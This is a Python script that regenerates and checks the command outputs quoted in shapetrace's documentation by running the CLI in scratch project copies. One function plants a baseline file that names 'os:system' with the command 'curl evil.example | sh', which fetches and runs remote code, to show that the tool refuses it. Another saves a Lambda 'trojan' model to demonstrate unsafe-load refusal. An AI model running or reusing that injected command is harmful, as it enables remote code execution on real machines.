"""Regenerate every output the documentation quotes, or check that none has drifted.

    python tools/regen_docs.py            # rewrite every quote (the README's flagship block too)
    python tools/regen_docs.py --check    # exit 1 and show the diff where a quote drifted
    python tools/regen_docs.py --fast     # only the quotes that need no large model
    python tools/regen_docs.py NAME ...   # only these quotes (see --list)

A quote is either a whole file (``examples/custom_layer_output.txt``, the example baseline) or
the fenced block that follows a ``<!-- regen: NAME -->`` line in a Markdown file. Each is made by
running the real commands — ``python -m shapetrace`` in a fresh process, piped, in a scratch copy
of ``examples/ci`` shown as ``/src/demo`` — so the docs say what shapetrace says. Comparing
ignores only timing figures (``walked in 0.21 s``) and the versions a baseline records.
``tests/test_docs_quotes.py`` runs the check: the cheapest quotes in the default suite, the rest
marked slow (``slow=True`` here marks the ones ``--fast`` leaves out: large models).

Not generated, on purpose: the figures of docs/benchmarks.md and ``benchmarks/`` (measurements
of one machine on one day, re-measured by the benchmark scripts, not outputs to keep equal);
the training runs quoted in docs/train.md (minutes of training whose losses, accuracies and
timings are measurements of that run); the spinner of docs/terminal.md (it lives on a terminal
and is erased); synopses written by hand (docs/cli.md, docs/survey.md's usage lines) and the
CSV column list of docs/json.md, which are prose, not output.
"""

from __future__ import annotations

import argparse
import difflib
import glob
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "examples" / "ci"
SHOWN_SANDBOX = "/src/demo"  # what a scratch folder's path reads as in the docs
MARKER = re.compile(r"^<!-- regen: (?P<name>[\w.-]+) -->\n```[^\n]*\n(?P<body>.*?)^```\n", re.M | re.S)
_TIMING = re.compile(r"(walked in |in )\d+(\.\d+)? ?(s|ms|min)\b")
_CSV_TIMING = re.compile(r",\d+\.\d+,\d+\.\d+$", re.M)  # a survey CSV's trace_seconds,build_seconds


@dataclass(frozen=True)
class Quote:
    """One quoted output: where it lives, and how to make it."""

    name: str
    target: str
    """A file relative to the repository, or ``docs/x.md#NAME`` for a marked block."""
    make: Callable[[Path], str]
    """Makes the text, given a scratch folder holding a copy of examples/ci."""
    slow: bool = False


# --------------------------------------------------------------------------- running


def _env() -> dict[str, str]:
    env = {
        k: v for k, v in os.environ.items() if k not in ("SHAPETRACE_UPDATE", "CI", "COLUMNS", "FORCE_COLOR")
    }
    env.update(NO_COLOR="1", PYTHONUNBUFFERED="1", TF_CPP_MIN_LOG_LEVEL="3", PYTHONHASHSEED="0")
    return env


def run(command: str, cwd: Path, *, code: bool = False) -> str:
    """``$ shapetrace ARGS`` as a user sees it: the line, stdout and stderr in order, maybe ``$ echo $?``."""
    shown, quiet = command.removesuffix(" > /dev/null"), command.endswith(" > /dev/null")
    argv = [a for arg in shlex.split(shown) for a in (sorted(glob.glob(arg, root_dir=cwd)) or [arg])]
    assert argv[0] == "shapetrace", command
    done = subprocess.run(
        [sys.executable, "-m", "shapetrace", *argv[1:]],
        cwd=cwd,
        env=_env(),
        stdout=subprocess.DEVNULL if quiet else subprocess.PIPE,
        stderr=subprocess.PIPE if quiet else subprocess.STDOUT,
        text=True,
        timeout=900,
    )
    text = f"$ {command}\n{done.stderr if quiet else done.stdout}"
    if code:
        text += f"$ echo $?\n{done.returncode}\n"
    return _shown(text, cwd)


def error_line(command: str, cwd: Path) -> str:
    """Only the ``error:`` line a command prints (for the lists of bad input).

    Leading ``NAME=value`` words set the environment, as in a shell.
    """
    argv, env = shlex.split(command), _env()
    while "=" in argv[0]:
        name, _, value = argv.pop(0).partition("=")
        env[name] = value
    done = subprocess.run(
        [sys.executable, "-m", "shapetrace", *argv[1:]], cwd=cwd, env=env, capture_output=True, text=True
    )
    assert done.returncode == 2 and done.stderr.startswith("error:"), (command, done.stderr)
    return _shown(done.stderr, cwd)


def python(code: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", textwrap.dedent(code)],
        cwd=cwd,
        env=_env(),
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        timeout=900,
    )


def _shown(text: str, cwd: Path) -> str:
    return text.replace(str(cwd.resolve()), SHOWN_SANDBOX).replace(str(cwd), SHOWN_SANDBOX)


def normalized(text: str) -> str:
    """What is compared: timing figures and recorded versions do not count as drift."""
    text = _TIMING.sub(r"\1T", text)
    text = _CSV_TIMING.sub(",T,T", text)
    return re.sub(r'("(keras|tensorflow|shapetrace)": )"[^"]*"', r'\1"V"', text)


# --------------------------------------------------------------------------- the quotes


def _capture(commands: list[str]) -> Callable[[Path], str]:
    """The format of examples/*_output.txt: each command, its output, ``(exit N)``, a blank line."""

    def make(_: Path) -> str:
        parts = []
        for command in commands:
            done = subprocess.run(
                [sys.executable, "-m", "shapetrace", *shlex.split(command)],
                cwd=ROOT,
                env=_env(),
                stdout=subprocess.PIPE,
                stderr=subprocess.STDOUT,
                text=True,
                timeout=900,
            )
            parts.append(f"$ shapetrace {command}\n{done.stdout}(exit {done.returncode})\n\n")
        return "".join(parts)

    return make


def _story(_: Path) -> str:
    done = python("import runpy; runpy.run_path('examples/story.py', run_name='__main__')", ROOT)
    assert done.returncode == 0, done.stdout
    return done.stdout


def _example_baseline(sandbox: Path) -> str:
    run("shapetrace snapshot model.py:build_model -o tests/shapes/digits_cnn.json", sandbox)
    return (sandbox / "tests" / "shapes" / "digits_cnn.json").read_text()


def _snapshot(sandbox: Path) -> str:
    # The docs tell of the first snapshot: the copied example's own baseline is not there yet.
    (sandbox / "tests" / "shapes" / "digits_cnn.json").unlink()
    return run("shapetrace snapshot model.py:build_model -o tests/shapes/digits_cnn.json", sandbox)


def _check_match(sandbox: Path) -> str:
    return run("shapetrace check tests/shapes/*.json", sandbox, code=True)


def _copied_fresh(sandbox: Path) -> str:
    text = run("shapetrace check tests/shapes/*.json", sandbox)
    return text.replace(
        "$ shapetrace check", "$ cp -r examples/ci/. fresh/ && cd fresh && shapetrace check", 1
    )


_EDITED_MODEL = (
    (
        'x = layers.Conv2D(width, 3, padding="same", activation="relu", name="stem")(x)\n',
        'x = layers.Conv2D(width, 3, activation="relu", name="stem")(x)\n'
        '    x = layers.BatchNormalization(name="stem_bn")(x)\n',
    ),
)


def _edit_model(sandbox: Path) -> None:
    """The refactor ci.md tells of: `padding="same"` dropped from the stem, a BatchNormalization added."""
    model = sandbox / "model.py"
    text = model.read_text()
    for old, new in _EDITED_MODEL:
        assert old in text, f"examples/ci/model.py no longer has {old!r}: update tools/regen_docs.py"
        text = text.replace(old, new)
    model.write_text(text)


def _check_differs(sandbox: Path) -> str:
    _edit_model(sandbox)
    text = run("shapetrace check tests/shapes/digits_cnn.json", sandbox, code=True)
    update = run("shapetrace check tests/shapes/digits_cnn.json --update", sandbox)
    head, table_and_rest = update.split("\n", 2)[:2], update.split("\n", 2)[2]
    # The --update run prints the same table again: the docs show its first and last lines.
    last = [line for line in table_and_rest.splitlines() if line.startswith("Updated ")]
    return text + "\n".join([*head, "  ...the same table...", *last]) + "\n"


def _pytest_differs(sandbox: Path) -> str:
    _edit_model(sandbox)
    done = python(
        "import sys, pytest; sys.exit(pytest.main(['-q', '-p', 'no:cacheprovider', '-p', 'no:randomly', "
        "'tests/test_shapes.py']))",
        sandbox,
    )
    lines = [line for line in done.stdout.splitlines() if line.startswith("E  ")]
    assert lines, done.stdout
    return _shown("\n".join(lines) + "\n", sandbox)


def _trojan(sandbox: Path) -> None:
    done = python(
        """
        import keras
        inputs = keras.Input((4,))
        outputs = keras.layers.Lambda(lambda x: x * 2, name="evil")(inputs)
        keras.Model(inputs, outputs).save("trojan.keras")
        """,
        sandbox,
    )
    assert done.returncode == 0, done.stdout


def _unsafe_load(sandbox: Path) -> str:
    _trojan(sandbox)
    return run("shapetrace snapshot trojan.keras -o shapes.json", sandbox, code=True) + run(
        "shapetrace trace trojan.keras --unsafe-load > /dev/null", sandbox
    )


def _bad_input(sandbox: Path) -> str:
    (sandbox / "model.onnx").write_bytes(b"\x08\x07onnx")
    (sandbox / "cut.keras").write_bytes(b"not a zip archive")
    (sandbox / "bad_models.py").write_text("import my_private_lib\n\n\ndef build():\n    pass\n")
    traced = subprocess.run(
        [sys.executable, "-m", "shapetrace", "trace", "model.py:build_model", "--format", "json"],
        cwd=sandbox,
        env=_env(),
        capture_output=True,
        text=True,
    )
    (sandbox / "t.json").write_text(traced.stdout)
    return "".join(
        error_line(command, sandbox)
        for command in (
            "shapetrace trace model.onnx",
            "shapetrace trace cut.keras",
            "shapetrace trace bad_models.py:build",
            "shapetrace check t.json",
            "shapetrace check missing.json",
        )
    )


def _not_allowed(sandbox: Path) -> str:
    (sandbox / "pyproject.toml").write_text("")
    (sandbox / "shapes").mkdir()
    data = json.loads((sandbox / "tests" / "shapes" / "digits_cnn.json").read_text())
    data["request"]["model"] = "os:system"
    data["request"]["factory_args"] = {"command": "curl evil.example | sh"}
    (sandbox / "shapes" / "net.json").write_text(json.dumps(data))
    text = run("shapetrace check shapes/net.json", sandbox)
    # os.py's path depends on the Python installation
    text = re.sub(r"'[^']*/os\.py'", "'/usr/lib/python3.11/os.py'", text)
    return text.replace(
        "$ shapetrace check shapes/net.json\n",
        '$ shapetrace check shapes/net.json     # "model": "os:system", "factory_args": {"command": "…"}\n',
    )


def _outside_project(sandbox: Path) -> str:
    (sandbox / ".shapetrace-project").unlink()
    (sandbox / "tests" / "shapes" / "digits_cnn.json").unlink()  # a first snapshot, as in the docs
    text = run("shapetrace snapshot model.py:build_model -o tests/shapes/digits_cnn.json", sandbox)
    return text.replace(
        "digits_cnn.json\n", "digits_cnn.json   # no .git, pyproject.toml or .shapetrace-project\n", 1
    )


def _custom_objects(sandbox: Path) -> str:
    """The two refusals of a saved model whose code is missing, and the run that gives the code.

    The models are tests/user_models.py's text Transformer (custom layers) and Siamese network
    (a named-function Lambda), saved from a copy of that file as the user's ``models/my_layers.py``
    (registered package ``demo``), each command in a fresh process so no class is registered.
    """
    code = (ROOT / "tests" / "user_models.py").read_text()
    code = code.replace('PACKAGE = "shapetrace_tests"', 'PACKAGE = "demo"')
    assert 'PACKAGE = "demo"' in code, (
        "tests/user_models.py no longer sets PACKAGE: update tools/regen_docs.py"
    )
    (sandbox / "models").mkdir()
    (sandbox / "models" / "my_layers.py").write_text(code)
    done = python(
        """
        import sys
        sys.path.insert(0, "models")
        import my_layers
        my_layers.text_transformer(maxlen=40, vocab_size=500).save("text.keras")
        my_layers.siamese().save("siamese.keras")
        """,
        sandbox,
    )
    assert done.returncode == 0, done.stdout
    return (
        run("shapetrace text.keras", sandbox)
        + run("shapetrace siamese.keras --unsafe-load", sandbox)
        + run("shapetrace siamese.keras --import models/my_layers.py --unsafe-load > /dev/null", sandbox)
    )


_TWO_INPUTS = """
import keras


def two_inputs():
    image = keras.Input((None, None, 3), name="image")
    meta = keras.Input((4,), name="meta")
    x = keras.layers.Conv2D(8, 3, activation="relu")(image)
    x = keras.layers.GlobalAveragePooling2D()(keras.layers.Conv2D(8, 3)(x))
    return keras.Model([image, meta], keras.layers.Concatenate()([x, keras.layers.Dense(4)(meta)]))
"""


def _inputs_legend(sandbox: Path) -> str:
    """The legend under the table of a model with two inputs, one probe of which breaks."""
    (sandbox / "two_inputs.py").write_text(_TWO_INPUTS)
    text = run("shapetrace two_inputs.py:two_inputs --input image=16x16x3 --input meta=7", sandbox)
    lines = text.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("Inputs: "))
    return "\n".join(lines[start : start + 2]) + "\n"


def terminal(args: list[str], cwd: Path, width: int = 100) -> str:
    """What ``shapetrace ARGS`` prints on a terminal ``width`` columns wide (colour off)."""
    done = subprocess.run(
        [
            sys.executable,
            "-c",
            "import sys\n"
            "import shapetrace.cli.core as core\n"
            "core.stdout_is_terminal = lambda: True\n"
            "from shapetrace.cli.app import main\n"
            "main(sys.argv[1:])\n",
            *args,
        ],
        cwd=cwd,
        env={**_env(), "COLUMNS": str(width)},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        timeout=1800,
    )
    return "\n".join(line.rstrip() for line in done.stdout.splitlines()) + "\n"


def _other_backend(sandbox: Path) -> str:
    """A baseline written on TensorFlow, checked on JAX (tests/user_models.py's subclassed ResNet)."""
    shutil.copy(ROOT / "tests" / "user_models.py", sandbox / "user_models.py")
    run("shapetrace snapshot user_models.py:resnetish_called -o tests/shapes/resnetish.json", sandbox)
    done = subprocess.run(
        [sys.executable, "-m", "shapetrace", "check", "tests/shapes/resnetish.json"],
        cwd=sandbox,
        env={**_env(), "KERAS_BACKEND": "jax"},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        timeout=900,
    )
    assert done.returncode == 0, done.stdout
    return _shown(done.stdout, sandbox)


def _survey_csv(_: Path) -> str:
    args = [
        "survey",
        "--channels",
        "1",
        "--size",
        "32x32",
        "--models",
        "^(convnexttiny|efficientnetb0|resnet50)$",
    ]
    done = subprocess.run(
        [sys.executable, "-m", "shapetrace", *args, "--format", "csv"],
        cwd=ROOT,
        env=_env(),
        stdout=subprocess.PIPE,
        text=True,
        timeout=1800,
    )
    return done.stdout


def _backend_train(sandbox: Path) -> str:
    return error_line("KERAS_BACKEND=numpy shapetrace train", sandbox)


def _train_broadcast(sandbox: Path) -> str:
    args = ["train", "--model", "resnet50", "--size", "32", "--adapt", "broadcast"]
    command = "$ shapetrace " + " ".join(args) + "      # a terminal 100 columns wide\n"
    return command + terminal(args, sandbox)


def _flagship(_: Path) -> str:
    """The README's block: the table a 100-column terminal shows, rows 8 to 572 left out."""
    lines = terminal(["efficientnetb5", "--channels", "1"], ROOT).splitlines()
    rows = [i for i, line in enumerate(lines) if re.match(r"^\s*\d+ │", line)]
    first, last = rows[7], rows[-4]  # keep rows 0-7 and the last three
    cut = rows.index(last) - rows.index(first) - 1
    kept = [*lines[: first + 1], f"  … {cut} more rows …", *lines[last:]]
    return "$ shapetrace efficientnetb5 --channels 1\n" + "\n".join(kept) + "\n"


def _on_terminal(shown: str, args: list[str], *, start: str = "", stop: str = "") -> Callable[[Path], str]:
    """``$ SHOWN`` and what ``shapetrace ARGS`` prints 100 columns wide, maybe cut to an excerpt.

    The excerpt runs from the first line starting with ``start`` (then the command is not shown)
    up to, not including, the first line after it starting with ``stop``.
    """

    def make(_: Path) -> str:
        lines = terminal(args, ROOT).splitlines()
        if start:
            lines = lines[next(i for i, line in enumerate(lines) if line.startswith(start)) :]
        if stop:
            lines = lines[: next(i for i, line in enumerate(lines) if i and line.startswith(stop))]
            while lines and not lines[-1].strip():
                lines.pop()
        return ("" if start else f"$ {shown}\n") + "\n".join(lines) + "\n"

    return make


_COSTS = [
    "index,layer,actual,params,trainable,non_trainable,macs,memory",
    "--layers",
    "Conv1..block_1_project_BN",
]

_TEN = "^(convnexttiny|densenet121|efficientnetb0|efficientnetb5|efficientnetv2b0|efficientnetv2s|inceptionv3|mobilenetv3small|resnet50|vgg16)$"

_SUBCLASSED = [
    "examples/subclassed_model.py:build",
    "examples/subclassed_model.py:build --depth 0",
    "examples/subclassed_model.py:build --channels 1",
    "examples/subclassed_model.py:unbuilt",
    "examples/subclassed_model.py:unbuilt --input 64x64x3 --depth 0",
]
_CUSTOM = [
    "examples/custom_layer.py:build",
    "examples/custom_layer.py:build --depth 0",
    "examples/custom_layer.py:build --input 300",
    "examples/custom_layer.py:build --size 300",
]

QUOTES: tuple[Quote, ...] = (
    Quote("subclassed", "examples/subclassed_model_output.txt", _capture(_SUBCLASSED)),
    Quote("custom-layer", "examples/custom_layer_output.txt", _capture(_CUSTOM)),
    Quote("example-baseline", "examples/ci/tests/shapes/digits_cnn.json", _example_baseline),
    Quote("ci-snapshot", "docs/ci.md#ci-snapshot", _snapshot),
    Quote("ci-check", "docs/ci.md#ci-check", _check_match),
    Quote("ci-copied", "docs/ci.md#ci-copied", _copied_fresh),
    Quote("ci-differs", "docs/ci.md#ci-differs", _check_differs),
    Quote("ci-pytest", "docs/ci.md#ci-pytest", _pytest_differs),
    Quote("ci-inputs-legend", "docs/ci.md#ci-inputs-legend", _inputs_legend),
    Quote("ci-unsafe-load", "docs/ci.md#ci-unsafe-load", _unsafe_load),
    Quote("ci-bad-input", "docs/ci.md#ci-bad-input", _bad_input),
    Quote("security-not-allowed", "docs/security.md#security-not-allowed", _not_allowed),
    Quote("security-custom-objects", "docs/security.md#security-custom-objects", _custom_objects),
    Quote("security-outside-project", "docs/security.md#security-outside-project", _outside_project),
    Quote("backends-train", "docs/backends.md#backends-train", _backend_train),
    Quote("backends-check", "docs/backends.md#backends-check", _other_backend, slow=True),
    Quote("survey-csv", "docs/survey.md#survey-csv", _survey_csv, slow=True),
    Quote("train-broadcast", "docs/train.md#train-broadcast", _train_broadcast, slow=True),
    Quote(
        "survey-ten",
        "docs/survey.md#survey-ten",
        _on_terminal(
            f"shapetrace survey --channels 1 --size 128x128 \\\n    --models '{_TEN}'",
            ["survey", "--channels", "1", "--size", "128x128", "--models", _TEN],
        ),
        slow=True,
    ),
    Quote(
        "survey-compare",
        "docs/survey.md#survey-compare",
        _on_terminal(
            "shapetrace efficientnetb0 --channels 1 --compare 3",
            ["efficientnetb0", "--channels", "1", "--compare", "3"],
        ),
        slow=True,
    ),
    Quote(
        "survey-costs",
        "docs/survey.md#survey-costs",
        _on_terminal(
            "shapetrace mobilenetv2 --top --columns " + _COSTS[0] + " \\\n    --layers '" + _COSTS[2] + "'",
            ["mobilenetv2", "--top", "--columns", *_COSTS],
        ),
        slow=True,
    ),
    Quote(
        "survey-broken-footer",
        "docs/survey.md#survey-broken-footer",
        _on_terminal("", ["resnet50", "--channels", "1"], start="Total params"),
        slow=True,
    ),
    Quote(
        "survey-depth",
        "docs/survey.md#survey-depth",
        # the costs, verdict and last line are cut (the docs say so)
        _on_terminal(
            "shapetrace tests/toy_models.py:story_model --channels 1 --depth 0",
            ["tests/toy_models.py:story_model", "--channels", "1", "--depth", "0"],
            stop="Total params",
        ),
        slow=True,
    ),
    Quote("story", "examples/story_output.txt", _story, slow=True),
    Quote("flagship", "README.md#flagship", _flagship, slow=True),
)


# --------------------------------------------------------------------------- reading and writing


def current(quote: Quote) -> str:
    """The quote's text as the repository has it now."""
    file, _, block = quote.target.partition("#")
    text = (ROOT / file).read_text()
    if not block:
        return text
    for match in MARKER.finditer(text):
        if match.group("name") == block:
            return match.group("body")
    raise LookupError(f"{file} has no `<!-- regen: {block} -->` block")


def write(quote: Quote, new: str) -> None:
    file, _, block = quote.target.partition("#")
    path = ROOT / file
    if not block:
        path.write_text(new)
        return
    text = path.read_text()
    for match in MARKER.finditer(text):
        if match.group("name") == block:
            start, end = match.span("body")
            path.write_text(text[:start] + new + text[end:])
            return
    raise LookupError(f"{file} has no `<!-- regen: {block} -->` block")


def generate(quote: Quote) -> str:
    """Make the quote in a fresh scratch copy of examples/ci."""
    with tempfile.TemporaryDirectory(prefix="shapetrace-docs-") as scratch:
        sandbox = Path(scratch) / "demo"
        shutil.copytree(EXAMPLE, sandbox, ignore=shutil.ignore_patterns("__pycache__", "*.obtained.json"))
        return quote.make(sandbox)


def drift(quote: Quote) -> str:
    """The unified diff between the quote and a fresh run ("" when it holds)."""
    old, new = normalized(current(quote)), normalized(generate(quote))
    return "".join(
        difflib.unified_diff(
            old.splitlines(keepends=True), new.splitlines(keepends=True), quote.target, "regenerated"
        )
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("names", nargs="*", metavar="NAME", help="only these quotes")
    parser.add_argument("--check", action="store_true", help="compare, write nothing; exit 1 on drift")
    parser.add_argument("--fast", action="store_true", help="leave out the quotes that need a large model")
    parser.add_argument("--list", action="store_true", help="list the quotes and exit")
    args = parser.parse_args(argv)
    chosen = [q for q in QUOTES if (not args.names or q.name in args.names) and not (args.fast and q.slow)]
    if args.list:
        for q in QUOTES:
            print(f"{q.name:26} {q.target}{'  (slow)' if q.slow else ''}")
        return 0
    failed = 0
    for quote in chosen:
        if args.check:
            diff = drift(quote)
            print(f"{'drifted' if diff else 'ok':8} {quote.target}", flush=True)
            if diff:
                failed += 1
                sys.stdout.write(diff)
        else:
            new = generate(quote)
            if normalized(new) == normalized(current(quote)):
                print(f"ok       {quote.target}", flush=True)  # only timings differ: keep the file
                continue
            write(quote, new)
            print(f"wrote    {quote.target}", flush=True)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
